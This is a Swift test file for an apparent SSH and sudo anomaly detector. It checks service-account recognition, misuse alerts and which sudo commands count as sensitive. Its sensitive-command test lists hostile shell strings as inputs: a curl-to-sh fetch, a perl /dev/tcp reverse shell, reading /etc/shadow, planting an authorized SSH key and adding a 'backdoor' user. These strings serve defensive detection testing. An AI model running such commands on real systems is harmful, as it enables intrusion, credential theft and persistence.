import Foundation
import Testing
@testable import TriplineCore

/// Service accounts on a short history: one day shows little of a round-the-clock rhythm, so the
/// account's name (as admins name them) counts when it also logs in like one.
@Suite struct ServiceAccountTests {
    @Test func namesThatSayServiceAccount() {
        for n in ["svc_backup", "svc-deploy", "svcmonitor", "deploy-svc", "sa-ci", "app_reports", "ci-bot", "jenkins", "Ansible", "gitlab-runner", "db-backup", "nagios"] {
            #expect(UserBaseline.isServiceAccountName(n), "\(n)")
        }
        for n in ["alice", "bob", "sam", "sarah", "appleton", "robert", "root", "admin", "ops"] {
            #expect(!UserBaseline.isServiceAccountName(n), "\(n)")
        }
    }

    /// One day: every account logs in by key from one address every two hours (12 hours of the day).
    static func oneDay() -> TriplineModel {
        var events: [LogEvent] = []
        for h in stride(from: 0, to: 24, by: 2) {
            events.append(DetectorTests.login(DetectorTests.at(0, h, 15), "svc_reports", "10.20.99.20", ok: true, method: "publickey", host: "db-01"))
            events.append(DetectorTests.login(DetectorTests.at(0, h, 16), "carol", "10.20.99.21", ok: true, method: "publickey", host: "db-01"))
        }
        return Trainer().train(events: events, label: "one day")
    }

    @Test func aNamedServiceAccountIsKnownFromOneDayAndItsMisuseIsTold() {
        let m = Self.oneDay()
        #expect(m.users["svc_reports"]?.isServiceAccount == true)
        #expect(m.users["carol"]?.isServiceAccount == false, "the same rhythm without the name is a person")
        let misuse = [DetectorTests.login(DetectorTests.at(1, 14, 0), "svc_reports", "203.0.113.80", ok: true, method: "password", host: "db-01")]
        #expect(DetectorTests.detect(misuse, model: m).map(\.kind) == [.serviceAccountMisuse])
        let usual = [DetectorTests.login(DetectorTests.at(1, 14, 15), "svc_reports", "10.20.99.20", ok: true, method: "publickey", host: "db-01")]
        #expect(DetectorTests.detect(usual, model: m).isEmpty)
    }
}

/// Service accounts that log in with passwords (many do): known by how they behave, a timer's
/// rhythm around the clock from one place, and their misuse found.
@Suite struct PasswordServiceAccountTests {
    typealias D = DetectorTests

    static func model() -> TriplineModel {
        var events = D.baselineEvents(days: 7)
        for d in 0..<7 {
            for h in 0..<24 {
                for m in [5, 35] { events.append(D.login(D.at(d, h, m), "reports", "10.20.99.30", ok: true, method: "password", host: "db-01")) }
            }
            // A person on call: password, nights too, but with a day's peak.
            for h in [9, 10, 11, 13, 14, 15, 16, 23] { events.append(D.login(D.at(d, h, 20), "oncall", "10.20.1.40", ok: true, method: "password")) }
            for h in [10, 11, 14, 15] { events.append(D.login(D.at(d, h, 40), "oncall", "10.20.1.40", ok: true, method: "password")) }
        }
        return Trainer().train(events: events.sorted { $0.timestamp < $1.timestamp }, label: "week")
    }

    @Test func aTimersRhythmMakesAServiceAccountWhateverItLogsInWith() {
        let m = Self.model()
        #expect(m.users["reports"]?.isServiceAccount == true)
        #expect(m.users["oncall"]?.isServiceAccount == false)
        #expect(m.users["svc_backup"]?.isServiceAccount == true, "the key-based one still is")
        // Its misuse: from a new address, then a shell.
        let misuse = [D.login(D.at(8, 14, 0), "reports", "203.0.113.81", ok: true, method: "password", host: "db-01"),
                      D.sudo(D.at(8, 14, 2), "reports", ok: true, command: "/bin/bash")]
        #expect(D.detect(misuse, model: m).map(\.kind) == [.serviceAccountMisuse])
        let usual = [D.login(D.at(8, 14, 5), "reports", "10.20.99.30", ok: true, method: "password", host: "db-01")]
        #expect(D.detect(usual, model: m).isEmpty)
    }
}

/// Which sudo commands count as sensitive: programs by name, never as text inside other words.
@Suite struct SensitiveCommandTests {
    @Test func programsByNameNotBySubstring() {
        for c in ["/bin/bash", "-i", "/usr/bin/passwd alice", "sh -c 'curl http://203.0.113.5/x | sh'", "/usr/bin/vim /etc/sudoers",
                  "/bin/chmod u+s /tmp/x", "/usr/bin/tee -a /root/.ssh/authorized_keys", "/bin/cat /etc/shadow", "/usr/bin/perl -e x /dev/tcp/192.0.2.9/4444",
                  "/usr/sbin/useradd -m backdoor"] {
            #expect(Detector.isSensitive(c), "\(c)")
        }
        for c in ["/usr/bin/rsync -a /srv/app/ /srv/app.bak/", "/usr/bin/systemctl restart nginx", "/usr/bin/apt-get install ncdu",
                  "/usr/bin/journalctl -u sshd", "/usr/bin/docker ps", "/usr/bin/find /var/log -name *.gz"] {
            #expect(!Detector.isSensitive(c), "\(c)")
        }
    }
}
